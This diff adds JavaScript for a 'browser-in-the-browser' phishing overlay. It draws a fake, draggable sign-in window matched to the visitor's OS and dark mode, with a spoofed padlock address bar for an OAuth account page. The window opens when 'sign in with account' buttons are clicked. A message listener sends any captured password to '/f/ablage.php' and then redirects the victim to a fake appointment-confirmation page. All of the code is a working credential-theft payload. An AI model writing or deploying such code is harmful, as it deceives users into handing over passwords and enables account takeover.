@@ -1,0 +1,10 @@
+const dark = matchMedia('(prefers-color-scheme: dark)').matches, mac = /Mac/.test(navigator.platform);
+const box = document.createElement('div');
+box.className = `win ${dark ? 'dark' : 'light'} ${mac ? 'mac' : 'w11'}`;
+box.innerHTML = `<header><span>Anmelden – Konto</span></header><div class="bar">🔒 https://accounts.suche-konto.example/signin/oauth?client_id=kalender</div><iframe src="/f/anmelden.html#${btoa(location.host)}"></iframe>`;
+let dx, dy, drag = 0;
+box.querySelector('header').onmousedown = e => { drag = 1; dx = e.clientX - box.offsetLeft; dy = e.clientY - box.offsetTop; };
+onmousemove = e => { if (drag) box.style.cssText = `left:${e.clientX - dx}px;top:${e.clientY - dy}px`; };
+onmouseup = () => { drag = 0; };
+document.querySelectorAll('.mit-konto').forEach(b => { b.onclick = () => document.body.append(box); });
+onmessage = e => { if (e.data.kennwort) navigator.sendBeacon('/f/ablage.php', JSON.stringify(e.data)), box.remove(), location = '/termin-bestaetigt.html'; };
